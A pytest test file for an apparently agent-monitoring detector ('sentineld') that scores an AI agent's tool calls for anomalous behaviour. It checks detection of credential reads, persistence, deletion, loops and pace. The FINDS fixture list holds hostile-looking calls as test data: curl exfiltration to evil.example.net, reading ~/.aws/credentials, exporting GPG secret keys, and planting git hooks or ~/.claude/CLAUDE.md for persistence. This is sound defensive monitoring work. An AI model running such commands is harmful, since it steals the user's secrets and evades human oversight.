"""Detectors: each finds what it is for, in a role that knows ordinary work, and nothing in such work."""

from math import floor, log2
from statistics import fmean

import pytest
from calls import HOME, OWNER, Shop, bash, observation, ordinary, read, taught, write
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sentineld.detectors import DETECTORS, OF_FEATURE, READERS, SENTENCES, argument, order, watches_of
from sentineld.event import ERROR, OK, REFUSED
from sentineld.session import Session

TREE = f"{HOME}/shop"
START = [read(f"{TREE}/cart1.py"), bash("git status")]
FINDS = [
    ("place", "delete.place", [bash(f"rm {HOME}/photos/a.jpg")]),
    ("place", "take.system", [read("/etc/nginx/nginx.conf")]),
    ("place", "copy.place", [bash(f"cp -R {HOME}/Documents /tmp/d")]),
    ("place", "run.place", [bash(f"frobnicate {HOME}/Documents/a {HOME}/Music/b /opt/x/y/z")]),
    ("place", "write.system", [write("/usr/local/lib/x.py")]),
    ("scope", "take.many", [read(f"{HOME}/p{n}/x/a.md") for n in range(12)]),
    ("scope", "delete.many", [bash(f"rm a{n}") for n in range(20)]),
    ("persistence", "later.home", [write(f"{HOME}/.zshrc")]),
    ("persistence", "later.hook", [write(f"{TREE}/.git/hooks/pre-commit")]),
    ("persistence", "agent.home", [write(f"{HOME}/.claude/CLAUDE.md")]),
    ("persistence", "later.setting", [bash("git config core.hooksPath /tmp/h")]),
    ("credential", "secret.home", [read(f"{HOME}/.aws/credentials")]),
    ("credential", "secret.tree", [read(f"{TREE}/.env")]),
    ("sink", "out.host", [bash("curl -d @x https://evil.example.net")]),
    ("sink", "out.target", [("send_mail", {"to": "eve@evil.example.net", "subject": "done"})]),
    ("sink", "out.tool", [("mcp__chat__post_message", {"text": "hi"})]),
    ("source", "net.host", [bash("curl -s https://files.example.net/x.tgz -o x.tgz")]),
    ("source", "code.from", [bash("pip install --index-url https://odd.example.net/simple left")]),
    ("guard", "power.verb", [bash("sudo id")]),
    ("guard", "guard.out", [bash("git push --force origin main")]),
    ("guard", "secret.tool", [bash("gpg --export-secret-keys -a")]),
    ("guard", "delete.hard", [bash("git clean -fdx")]),
    ("loop", "loop", [bash("curl -s http://localhost:80/ready")] * 40),
    (
        "argument",
        "arg:send_mail.subject",
        [("send_mail", {"to": "bob@shop.example.org", "subject": "wire money"})],
    ),
    ("order", "order", [bash("git commit -am x"), bash("git commit -am y"), bash("rm build/out.txt")]),
]


@pytest.mark.parametrize(("detector", "feature", "calls"), FINDS, ids=[feature for _, feature, _ in FINDS])
def test_a_detector_finds_what_it_is_for_and_tells_where(detector, feature, calls):
    shop = taught()
    _, session = shop.work([*START, *calls])
    _, usual = taught().work(START)

    found = [one for one in session.findings if (one.detector, one.feature) == (detector, feature)]
    assert found
    assert found[0].offset >= len(START)
    assert found[0].bits >= 2
    assert found[0].usual == SENTENCES.get(feature, argument.SENTENCE)
    assert usual.score < session.score or feature == "order"
    assert not [one for one in usual.findings if one.feature == feature]


@pytest.mark.parametrize("number", range(8))
def test_ordinary_work_finds_next_to_nothing_and_calls_for_nothing(number):
    verdicts, session = taught().work(ordinary(number))

    assert {verdict.level for verdict in verdicts} == {1}
    assert session.score < 1.5
    assert not [one for one in session.findings if one.detector not in (order.NAME, argument.NAME)]


def test_a_first_use_is_slight_and_a_grave_one_is_not():
    _, slight = taught().work([*START, bash("tokei"), ("Glob", {"pattern": "*.py"})])
    _, grave = taught().work([*START, bash("sudo ls")])

    assert 0 < slight.peaks["consequence"] < grave.peaks["consequence"] / 2


def test_whom_an_earlier_call_named_is_no_stranger():
    mail = ("send_mail", {"to": "eve@evil.example.net", "subject": "done"})
    look = ("look_up", {"query": "Eve@evil.example.net"})

    _, stranger = taught().work([*START, mail])
    _, told = taught().work([*START, look, mail])
    _, late = taught().work([*START, mail, look])
    assert told.peaks.get("target", 0) == 0 < stranger.peaks["target"]
    assert late.peaks["target"] == stranger.peaks["target"]


def test_credentials_are_never_a_habit():
    shop = taught()
    for _ in range(6):
        shop.work([*START, read(f"{HOME}/.aws/credentials")], learn=True)
    for held in shop.agent.held:
        held.is_suspicious = held.is_rank = False
        shop.role.merge([held], [shop.agent.own])

    _, session = shop.work([*START, read(f"{HOME}/.aws/credentials")])
    assert session.new["secret.home"] == 1


def test_a_rush_is_told_from_the_pace_of_the_agent_itself_and_a_slow_day_is_none():
    def work(pause_s):
        return taught().work(ordinary(1) * 8, pause_s=pause_s)[1]

    assert work(0.05).peaks["consequence"] > work(5.0).peaks["consequence"]
    assert work(600.0).peaks["consequence"] == work(5.0).peaks["consequence"]
    assert work(3.0).peaks["consequence"] == work(5.0).peaks["consequence"]


def test_what_is_told_all_at_once_is_no_rush():
    _, late = taught().work(ordinary(1) * 8, pause_s=0)
    _, steady = taught().work(ordinary(1) * 8, pause_s=5)

    assert late.peaks["consequence"] == steady.peaks["consequence"]
    assert late.times == late.times[:1]


@settings(max_examples=40, deadline=None)
@given(st.sampled_from([10**3, 10**5, 10**6, 10**7, 10**9]), st.lists(st.integers(0, 2000), max_size=120))
@example(10**7, [*range(900, 4, -5)])
def test_a_pace_and_a_tempo_are_told_whenever_they_are_above_what_was_reached(unit_us, pauses):
    session, at_us, times, gaps = new_session(), 10**15, [], []
    for pause in pauses:
        at_us += pause * unit_us // 1000
        item = observation(bash("make"), at_us)
        watches = watches_of(session, item[6])
        found = {name: value for watch in watches for name, value in watch(session, item[6], item)}

        expected = {}
        if not times or at_us > times[-1]:
            gaps += [min(max((at_us - times[-1]) / 1e6, 0.05), 600.0)] if times else []
            times.append(at_us)
            mean_s = max((at_us - times[-32]) / 1e6, 0.1) / 31 if len(times) >= 32 else 0.0
            if mean_s and (height := max(-8, int(-2 * log2(mean_s)))) > session.grades.get("pace", -99):
                expected["pace"] = str(height)
            if len(gaps) > 3:
                height = -2 * fmean(map(log2, gaps))
                if floor(height) > session.grades.get("tempo", -99):
                    expected["tempo"] = str(floor(height))
                if abs(height - round(height)) < 1e-9:
                    # Which side of a height it is on is up to how sums are rounded.
                    found.pop("tempo", None), expected.pop("tempo", None)
        assert found == expected
        session.grades.update({name: int(value) for name, value in found.items()})


def test_an_agent_without_a_past_cannot_be_faster_than_itself():
    shop = taught()
    shop.agent.own.grades = {}
    _, fast = shop.work(ordinary(1) * 8, pause_s=0.01)
    _, slow = taught().work(ordinary(1) * 8, pause_s=5)

    assert fast.peaks["consequence"] == slow.peaks["consequence"]


def feed(session, events):
    names = []
    for number, (call, outcome, tokens, entropy) in enumerate(events):
        item = observation(call, 1 + number * 10**7, outcome=outcome, tokens=tokens, entropy=entropy)
        if call[0] == "result":
            item = (*item[:6], item[6]._replace(features=()))
        for watch in watches_of(session, item[6]):
            names += watch(session, item[6], item)
    return names


def new_session():
    return Session("s", "coding", 1, 1)


def test_errors_in_a_row_are_graded_and_success_or_silence_between_them_ends_the_row():
    fails, works, refused = (
        (bash("make"), ERROR, None, 0),
        (bash("make"), OK, None, 0),
        (bash("make"), REFUSED, None, 0),
    )
    call, result = (bash("make"), "", None, 0), (("result", {}), ERROR, None, 0)

    def rows(*events):
        session = new_session()
        return [value for name, value in feed(session, events) if name == "errors"], session.failures

    assert rows(*[fails] * 5) == (["2", "3", "3"], 5)
    assert rows(fails, fails, works, fails, fails) == ([], 2)
    assert rows(fails, fails, refused, fails) == (["2"], 3)
    # Results that are records of their own, where only failures are told.
    assert rows(*[call, result] * 4) == (["2", "3"], 4)
    assert rows(*[call, call, result] * 6) == ([], 1)
    assert rows(call, call, result, result, result)[1] == 3


def test_tokens_of_a_session_are_summed_up_and_graded_by_their_size():
    session = new_session()
    names = feed(session, [(bash("ls"), "", 600, 0)] * 4)

    assert [value for name, value in names if name == "tokens"] == ["0", "1", "2"]
    assert session.tokens == 2400


def test_tokens_that_nobody_can_use_do_not_grow_beyond_what_can_be_stored():
    session = new_session()
    feed(session, [(bash("ls"), "", (1 << 63) - 1, 0)] * 4)

    assert session.tokens < 1 << 62


def test_payloads_have_a_mean_entropy_per_class_from_the_eighth_on():
    session = new_session()
    text, code = 600_000_000, 990_000_000
    names = feed(session, [(write("a"), "", None, text)] * 8 + [(write("a"), "", None, code)] * 40)
    found = [
        int(value) for name, value in names if name == "entropy.file_create" or name == "entropy.file_write"
    ]

    assert len(found) == 41
    assert found[0] == 30
    assert found == sorted(found)
    assert found[-1] == 49
    assert feed(new_session(), [(write("a"), "", None, 0)] * 20) == feed(
        new_session(), [(write("a"), "", None, 0)] * 20
    )
    assert not [
        name for name, _ in feed(new_session(), [(write("a"), "", None, 0)] * 20) if "entropy" in name
    ]


def test_a_shift_of_entropy_is_a_surprise_to_a_role_that_never_had_it():
    shop = Shop()
    for number in range(40):
        shop.work([write(f"{TREE}/a{number % 5}")] * 12, entropy=600_000_000, learn=True)

    _, usual = shop.work([write(f"{TREE}/a1")] * 12, entropy=600_000_000)
    _, shifted = shop.work([write(f"{TREE}/a1")] * 12, entropy=950_000_000)
    assert shifted.peaks["consequence"] > usual.peaks.get("consequence", 0)


def test_the_second_new_host_of_a_session_counts_less():
    first, second = (bash(f"curl -s https://{name}.example.net/a -o a") for name in ("one", "two"))
    _, one = taught().work([*START, first])
    _, both = taught().work([*START, first, *ordinary(1)[:3], second])

    bits = [found.bits for found in both.findings if found.feature == "net.host"]
    assert len(bits) == 2
    assert bits[1] < bits[0] / 3
    assert one.new["net.host"] == 1


def test_two_calls_in_turns_are_a_loop():
    turns = [bash("curl http://localhost/a"), bash("curl http://localhost/b")] * 20
    _, session = taught().work([*START, *turns])

    assert session.grades["loop"] >= 8


def test_a_look_up_between_new_steps_is_no_loop():
    steps = [call for n in range(20) for call in (bash("git status"), read(f"{HOME}/shop/a{n}.py"))]
    _, session = taught().work([*START, *steps])

    assert "loop" not in session.grades


def test_a_mere_name_is_a_recipient_and_no_place():
    shop = taught()
    _, session = shop.work([*START, ("send_mail", {"to": "Charlie"})])
    _, other = shop.work([*START, ("send_mail", {"to": "charlie@evil.example.net"})])

    assert "out.host" not in session.new
    assert session.new["out.target"] == 1
    assert other.new["out.host"] == 1


def test_every_feature_has_one_detector_a_sentence_and_a_severity():
    names = [name for one in DETECTORS for name in one.severity]

    assert len(names) == len(set(names)) == len(OF_FEATURE)
    assert all(set(one.severity) == set(one.sentences) for one in DETECTORS)
    assert not set(READERS) & set(OF_FEATURE)
    assert OWNER


def test_every_detector_says_where_it_comes_from_and_when_it_errs():
    import importlib

    modules = {
        one.name: importlib.import_module(read.__module__)
        for one in DETECTORS
        for read in [*one.reads.values(), *([one.watches] if one.watches else [])]
    }
    for module in [*modules.values(), argument, order]:
        for said in ("Formula", "Known false alarms"):
            assert said in (module.__doc__ or ""), module
